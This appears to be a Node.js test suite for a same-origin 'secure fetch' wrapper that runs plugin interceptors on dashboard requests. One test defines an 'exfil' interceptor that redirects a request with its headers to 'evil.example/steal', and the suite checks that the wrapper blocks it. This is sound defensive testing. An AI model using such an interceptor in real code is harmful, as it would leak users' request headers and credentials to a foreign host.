import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createSecureFetch } from '../../main/resources/shell/secure-fetch.js';

const BASE = 'http://localhost:8080/dashboard';

function setup(interceptors, budgetMs = 1000) {
  const failures = [];
  const sent = [];
  const secureFetch = createSecureFetch({
    interceptors: () => interceptors.map(([plugin, value]) => ({ plugin, value })),
    onError: (f) => failures.push(f),
    fetchImpl: async (request) => { sent.push(request); return new Response('{}', { status: 200 }); },
    budgetMs,
    base: BASE,
  });
  return { secureFetch, failures, sent };
}

const withHeader = (name, value) => (request) => {
  const headers = new Headers(request.headers);
  headers.set(name, value);
  return new Request(request, { headers });
};

test('interceptors run in the given order and their headers reach fetchImpl', async () => {
  const order = [];
  const { secureFetch, sent, failures } = setup([
    ['a', (r) => { order.push('a'); return withHeader('X-A', '1')(r); }],
    ['b', (r) => { order.push('b'); return withHeader('X-B', r.headers.get('X-A') + '2')(r); }],
  ]);
  const response = await secureFetch('/api/v1/notes');
  assert.equal(response.status, 200);
  assert.deepEqual(order, ['a', 'b']);
  assert.equal(sent.length, 1);
  assert.equal(sent[0].url, 'http://localhost:8080/api/v1/notes');
  assert.equal(sent[0].headers.get('X-A'), '1');
  assert.equal(sent[0].headers.get('X-B'), '12');
  assert.equal(sent[0].credentials, 'same-origin');
  assert.equal(failures.length, 0);
});

test('init is kept: method, body and headers', async () => {
  const { secureFetch, sent } = setup([['a', withHeader('X-Request-Id', 'ea-1')]]);
  await secureFetch('/api/v1/notes', { method: 'POST', body: '{"title":"t"}',
    headers: { 'Content-Type': 'application/json' } });
  assert.equal(sent[0].method, 'POST');
  assert.equal(sent[0].headers.get('Content-Type'), 'application/json');
  assert.equal(sent[0].headers.get('X-Request-Id'), 'ea-1');
  assert.equal(await sent[0].text(), '{"title":"t"}');
});

test('a throwing interceptor is reported, its change dropped, and the request still goes out', async () => {
  const { secureFetch, sent, failures } = setup([
    ['good', withHeader('X-Good', 'yes')],
    ['bad', () => { throw new Error('nope'); }],
    ['later', withHeader('X-Later', 'yes')],
  ]);
  await secureFetch('/api/v1/x');
  assert.equal(sent.length, 1);
  assert.equal(sent[0].headers.get('X-Good'), 'yes');
  assert.equal(sent[0].headers.get('X-Later'), 'yes');
  assert.deepEqual(failures.map((f) => [f.plugin, f.hook, f.kind, f.error.message, f.timedOut]),
    [['bad', 'interceptor', 'interceptor', 'nope', false]]);
});

test('an interceptor that changes the request and then fails has its change dropped', async () => {
  const { secureFetch, sent, failures } = setup([
    ['sneaky', async (r) => { r.headers.set('X-Sneaky', '1'); throw new Error('late'); }],
  ]);
  await secureFetch('/api/v1/x');
  assert.equal(sent[0].headers.get('X-Sneaky'), null);
  assert.equal(failures.length, 1);
});

test('an interceptor that returns something other than a Request is reported and skipped', async () => {
  const { secureFetch, sent, failures } = setup([
    ['undef', () => undefined],
    ['obj', () => ({ url: '/x' })],
    ['good', withHeader('X-Good', 'yes')],
  ]);
  await secureFetch('/api/v1/x');
  assert.equal(sent[0].headers.get('X-Good'), 'yes');
  assert.deepEqual(failures.map((f) => f.plugin), ['undef', 'obj']);
  assert.match(failures[0].error.message, /not a Request/);
});

test('an interceptor that never resolves is cut off by its budget and the request goes out', async () => {
  const { secureFetch, sent, failures } = setup([
    ['hang', () => new Promise(() => {})],
    ['good', withHeader('X-Good', 'yes')],
  ], 20);
  await secureFetch('/api/v1/x');
  assert.equal(sent.length, 1);
  assert.equal(sent[0].headers.get('X-Good'), 'yes');
  assert.equal(failures.length, 1);
  assert.equal(failures[0].plugin, 'hang');
  assert.equal(failures[0].timedOut, true);
});

test('an interceptor may not send the request to another origin', async () => {
  const { secureFetch, sent, failures } = setup([
    ['exfil', (r) => new Request('https://evil.example/steal', { headers: r.headers })],
  ]);
  await secureFetch('/api/v1/x');
  assert.equal(sent[0].url, 'http://localhost:8080/api/v1/x');
  assert.equal(failures[0].plugin, 'exfil');
});

test('a request for another origin is refused before any interceptor runs', async () => {
  let ran = false;
  const { secureFetch, sent } = setup([['a', (r) => { ran = true; return r; }]]);
  await assert.rejects(secureFetch('https://elsewhere.example/api'), /only calls this origin/);
  assert.equal(ran, false);
  assert.equal(sent.length, 0);
});
